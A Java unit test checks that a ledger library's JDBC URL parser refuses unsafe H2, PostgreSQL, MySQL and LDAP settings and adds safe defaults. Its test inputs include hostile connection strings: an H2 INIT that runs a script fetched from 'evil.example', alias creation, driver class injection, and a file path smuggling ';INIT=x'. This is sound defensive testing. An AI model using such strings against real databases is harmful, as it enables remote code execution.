package org.seedferry.ledger.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LedgerUrlTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil.example/topsecret'",
        "jdbc:h2:mem:x;init=create alias topsecret",
        "jdbc:h2:mem:x; INIT =create alias topsecret",
        "jdbc:h2:/tmp/x;TRACE_LEVEL_FILE=3",
        "jdbc:h2:/tmp/x;WRITE_DELAY=500",
        "jdbc:h2:/tmp/x;AUTO_SERVER=TRUE",
        "jdbc:h2:/tmp/x;PASSWORD=topsecret",
        "jdbc:h2:/tmp/x;CACHE_SIZE=1;;X=topsecret",
        "jdbc:h2:zip:/tmp/topsecret.zip!/x",
        "jdbc:h2:classpath:topsecret",
        "jdbc:h2:relative",
        "jdbc:postgresql://h/db?socketFactory=org.example.topsecret",
        "jdbc:postgresql://h/db?socketFactoryArg=topsecret",
        "jdbc:postgresql://h/db?sslfactory=topsecret",
        "jdbc:postgresql://h/db?loggerFile=/tmp/topsecret",
        "jdbc:postgresql://h/db?loggerLevel=TRACE",
        "jdbc:postgresql://h/db?authenticationPluginClassName=topsecret",
        "jdbc:postgresql://h/db?password=topsecret",
        "jdbc:postgresql://u:topsecret@h/db",
        "jdbc:postgresql://h/db;INIT=topsecret",
        "jdbc:postgresql:db?x=topsecret",
        "jdbc:mysql://h/db?password=topsecret",
        "ldap://topsecret",
      })
  void unsafeAndUnknownUrlsAreRefusedWithoutShowingThem(String url) {
    assertThatThrownBy(() -> LedgerUrl.parse(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("url: ")
        .hasMessageNotContaining("topsecret");
  }

  @Test
  void theRefusedParameterIsNamed() {
    assertThatThrownBy(() -> LedgerUrl.parse("jdbc:h2:mem:x;INIT=y"))
        .hasMessageContaining("'INIT' is not allowed");
    assertThatThrownBy(() -> LedgerUrl.parse("jdbc:postgresql://h/d?password=y"))
        .hasMessageContaining("settings of these names");
  }

  @Test
  void anEmbeddedDatabaseWritesThroughAndLocksItsFile() {
    LedgerUrl url = LedgerUrl.parse("jdbc:h2:file:/data/my ledger;CACHE_SIZE=1000");

    assertThat(url.jdbc())
        .startsWith("jdbc:h2:retry:/data/my ledger;")
        .contains(";WRITE_DELAY=0;", ";FILE_LOCK=FS;", ";TRACE_LEVEL_FILE=0;")
        .endsWith(";CACHE_SIZE=1000");
    assertThat(url.file()).contains(Path.of("/data/my ledger.mv.db"));
    assertThat(LedgerUrl.parse("jdbc:h2:/data/x").file()).contains(Path.of("/data/x.mv.db"));
    assertThatThrownBy(() -> LedgerUrl.embedded(Path.of("/a;INIT=x/ledger")))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aServerGetsTimeLimitsUnlessTheUrlSetsThem() {
    LedgerUrl url =
        LedgerUrl.parse("jdbc:postgresql://a:5432,b/db?sslmode=verify-full&socketTimeout=7");

    assertThat(url.kind()).isEqualTo(DatabaseKind.POSTGRESQL);
    assertThat(url.file()).isEmpty();
    assertThat(url.jdbc())
        .startsWith("jdbc:postgresql://a:5432,b/db?sslmode=verify-full&socketTimeout=7&")
        .contains("connectTimeout=5", "tcpKeepAlive=true")
        .doesNotContain("socketTimeout=20");
  }
}
